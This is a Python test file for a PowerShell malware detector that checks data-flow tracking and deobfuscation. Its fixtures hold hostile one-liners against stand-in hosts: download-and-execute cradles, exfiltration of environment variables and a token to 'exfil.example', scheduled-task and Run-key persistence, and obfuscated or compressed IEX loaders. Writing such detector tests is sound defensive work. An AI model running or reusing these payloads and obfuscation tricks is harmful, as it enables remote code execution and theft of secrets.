"""PowerShell becomes facts, with constants put together again."""

import base64
import gzip
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from packamal.detectors.shell import read
from packamal.detectors.units import Language, Unit


def facts_of(source):
    return read([Unit("x.ps1", "x.ps1", source.encode(), Language.POWERSHELL)], {})


def flows_of(source):
    facts = facts_of(source)
    names = {call.id: call.callee.removeprefix("shell.powershell.") for call in facts.calls}
    names |= {use.id: use.name for use in facts.uses}
    return {(names[flow.source], names[flow.sink], flow.arg) for flow in facts.flows}


FLOWS = {
    "irm http://cdn.example | iex": ("Invoke-RestMethod", "Invoke-Expression", "stdin"),
    "iex (iwr http://cdn.example).Content": ("Invoke-WebRequest", "Invoke-Expression", "code"),
    "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example')": (
        "Net.WebClient.DownloadString",
        "Invoke-Expression",
        "code",
    ),
    "$w = New-Object System.Net.WebClient\n$s = $w.DownloadString('http://cdn.example')\niex $s": (
        "Net.WebClient.DownloadString",
        "Invoke-Expression",
        "code",
    ),
    "iwr -Uri http://cdn.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe": (
        "Invoke-WebRequest",
        "Start-Process",
        "program",
    ),
    "(New-Object Net.WebClient).DownloadFile('http://cdn.example', 'a.exe'); saps a.exe": (
        "Net.WebClient.DownloadFile",
        "Start-Process",
        "program",
    ),
    "$b = gci env: | ConvertTo-Json; irm http://exfil.example -Method Post -Body $b": (
        "Get-ChildItem",
        "Invoke-RestMethod",
        "data",
    ),
    'iwr "http://exfil.example/?u=$env:USERNAME"': ("shell.env.USERNAME", "Invoke-WebRequest", "url"),
    "irm http://exfil.example -Body @{t = $env:TOKEN}": ("shell.env.TOKEN", "Invoke-RestMethod", "data"),
}


@pytest.mark.parametrize(("source", "expected"), FLOWS.items())
def test_a_value_is_followed(source, expected):
    assert expected in flows_of(source)


def _packed(packer):
    return base64.b64encode(packer(b"iwr http://cdn.example")).decode()


UNICODE = base64.b64encode("iwr http://cdn.example".encode("utf-16-le")).decode()


def _raw_deflate(raw):
    machine = zlib.compressobj(wbits=-15)
    return machine.compress(raw) + machine.flush()


def _unpacking(stream, packed):
    memory = f"(New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}')))"
    inner = f"(New-Object IO.Compression.{stream}({memory},[IO.Compression.CompressionMode]::Decompress))"
    return f"IEX(New-Object IO.StreamReader({inner},[Text.Encoding]::ASCII)).ReadToEnd()"


@pytest.mark.parametrize(
    "source",
    [
        "iex ('iwr http'+'://cdn.example')",
        "&('i'+'ex') ('{1}{0}' -f '//cdn.example','iwr http:')",
        "iex (-join([char[]](105,119,114,32) + 'http://cdn.example'))",
        "iex ('elpmaxe.ndc//:ptth rwi'[-1..-22] -join '')",
        "iex 'iwr XYZ'.Replace('XYZ','http://cdn.example')",
        "iex ('iwr QQ' -replace 'QQ','http://cdn.example')",
        "$a='iwr ';$a+='http://cdn.example';IEX $a",
        "i`e`x \"iwr http://cdn.example\"",
        f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{UNICODE}')))",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9jZG4uZXhhbXBsZQ==')) | iex",
        _unpacking("GzipStream", _packed(gzip.compress)),
        _unpacking("DeflateStream", _packed(_raw_deflate)),
        "powershell -c 'iwr http://cdn.example'",
        "Start-Process powershell -ArgumentList '-nop -c iwr http://cdn.example'",
    ],
)  # fmt: skip
def test_a_hidden_command_comes_out_as_a_layer(source):
    layers = facts_of(source).layers
    assert [layer.data for layer in layers] == [b"iwr http://cdn.example"]
    assert layers[0].language == "powershell"


def test_outer_commands_are_those_of_the_shell():
    facts = facts_of("schtasks /create /tn x /tr 'C:\\a.exe'; reg add HKCU\\Software\\Run /v x /d C:\\a.exe")
    assert [call.callee for call in facts.calls] == ["shell.schtasks", "shell.reg"]
    assert dict(facts.calls[0].named)["program"].text == "C:\\a.exe"


def test_parameters_go_by_the_same_names_as_options_of_curl():
    call = facts_of("Invoke-WebRequest http://cdn.example -Method POST -Body 'x' -Headers @{a='b'} -OutFile o").calls[0]
    assert {"url", "method", "data", "header", "output"} <= set(dict(call.named))


def test_started_files_are_edges_and_hidden_windows_are_marked():
    facts = facts_of("Start-Process .\\lib\\tool.exe -WindowStyle Hidden")
    assert [(edge.kind, edge.target) for edge in facts.edges] == [("start", "./lib/tool.exe")]
    assert "hidden" in dict(facts.calls[0].named)


def test_code_in_blocks_and_functions_is_read():
    facts = facts_of("function Go { if ($true) { iwr http://cdn.example } }\ntry { Go } catch { }")
    call = next(call for call in facts.calls if call.callee.endswith("Invoke-WebRequest"))
    assert call.place.function == "Go"
    assert call.place.is_called


def test_a_pattern_of_the_package_is_never_run_as_one():
    assert facts_of("iex ('" + "a" * 40 + "' -replace '(a+)+$','b')").layers == []


def test_doubling_values_stay_small():
    assert facts_of("$a='xxxxxxxxxxxxxxxx'\n" + "$a=$a+$a\n" * 60 + "iex $a").calls


@pytest.mark.parametrize("opener", ["(", "$(", "{", "@(", "[", '"$(', "'", "@{", "-join ", ",", "&(", "{iex "])
def test_brackets_without_end_end(opener):
    assert facts_of(opener * 3000) is not None


@settings(max_examples=150)
@given(st.text(alphabet="aiex1 \n'\"`$|&;<>(){}[]@#%,=-.:+", max_size=120))
def test_no_text_makes_the_reader_raise(source):
    assert facts_of(source) is not None
